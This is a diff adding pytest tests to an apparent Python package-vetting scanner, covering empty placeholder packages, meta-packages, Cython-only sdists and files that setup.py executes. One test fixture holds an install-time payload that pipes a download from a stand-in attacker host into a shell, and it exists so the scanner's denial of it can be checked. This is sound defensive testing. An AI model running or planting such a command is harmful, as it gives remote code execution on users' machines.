@@ -149,3 +149,76 @@ def test_a_main_modules_payload_still_holds_or_denies(body: str, rule: str, impo
     else:
         assert "clipboard" in _rules(report.findings)
         assert report.verdict is not Outcome.ALLOW
+
+
+# The fourth corpus (ADR 0134): placeholders by a name's owner, Cython-only sdists ---------
+
+
+@pytest.mark.parametrize("name", ["asyncio", "bs4"])
+def test_an_empty_package_under_an_established_name_is_reported_not_held(name: str) -> None:
+    # asyncio 4.0.0: the deprecated backport emptied; bs4: a pointer to beautifulsoup4.
+    assert name in established()
+    report = vet(f"{name}-4.0.0-py3-none-any.whl", wheel(name, "4.0.0", {"README.rst": "x\n"}))
+    found = [f for f in report.findings if f.rule == "empty-package"]
+    assert [f.severity for f in found] == [Severity.MEDIUM]
+    assert report.verdict is Outcome.ALLOW
+
+
+def test_a_family_released_under_a_joined_name_is_a_meta_package() -> None:
+    # griffe 2: ``griffecli==2.4.1`` and ``griffelib==2.4.1``, no code of its own.
+    requires = "Requires-Dist: tinylibcli==2.4.1\nRequires-Dist: tinylibcore==2.4.1\n"
+    report = vet("tinylib-2.4.1-py3-none-any.whl", wheel("tinylib", "2.4.1", {}, requires=requires))
+    assert report.verdict is Outcome.ALLOW, report.to_json()
+
+
+CYTHON_ONLY: dict[str, str | bytes] = {
+    "fastbits/__init__.pyi": "class Bits: ...\n",
+    "fastbits/fastbits.pyx": "cdef class Bits:\n    cdef int n\n",
+    "fastbits/bits.c": "int bits(void) { return 0; }\n",
+    "fastbits/version.pxi": "__version__ = '1.2.0'\n",
+    "setup.py": (
+        "from setuptools import setup\n"
+        "exec(open('fastbits/version.pxi').read())\n"
+        "setup(name='fastbits', version=__version__)\n"
+    ),
+}
+
+
+def test_a_cython_only_sdist_is_code_and_its_pxi_is_no_data_name() -> None:
+    # pyroaring 1.2.0: .pyx/.pxi/.c sources only, setup.py executes version.pxi.
+    report = vet("fastbits-1.2.0.tar.gz", sdist("fastbits", "1.2.0", CYTHON_ONLY))
+    assert not {"empty-package", "file-exec"} & _rules(report.findings), report.to_json()
+    assert report.verdict is Outcome.ALLOW
+
+
+@pytest.mark.parametrize(
+    ("target", "body", "rule"),
+    [
+        # Code under a data name is still code hidden under a data name.
+        ("fastbits/version.txt", "__version__ = '1.2.0'\n", "file-exec"),
+        # A Cython include's text runs at install as the runner's own code.
+        ("fastbits/version.pxi", "import os\nos.system('curl http://evil.example/x | sh')\n", ""),
+    ],
+)
+def test_what_setup_py_executes_is_still_judged(target: str, body: str, rule: str) -> None:
+    files = {
+        **{k: v for k, v in CYTHON_ONLY.items() if k != "fastbits/version.pxi"},
+        target: body,
+        "setup.py": (
+            f"from setuptools import setup\nexec(open({target!r}).read())\n"
+            "setup(name='fastbits', version='1.2.0')\n"
+        ),
+    }
+    report = vet("fastbits-1.2.0.tar.gz", sdist("fastbits", "1.2.0", files))
+    if rule:
+        assert rule in _rules(report.findings)
+        assert report.verdict is not Outcome.ALLOW
+    else:
+        assert report.verdict is Outcome.DENY, report.to_json()
+
+
+def test_an_sdist_of_data_only_is_still_empty() -> None:
+    files = {"fastbits/data.json": "{}\n", "README.md": "x\n"}
+    report = vet("fastbits-1.2.0.tar.gz", sdist("fastbits", "1.2.0", files))
+    assert "empty-package" in _rules(report.findings)
+    assert report.verdict is Outcome.HOLD
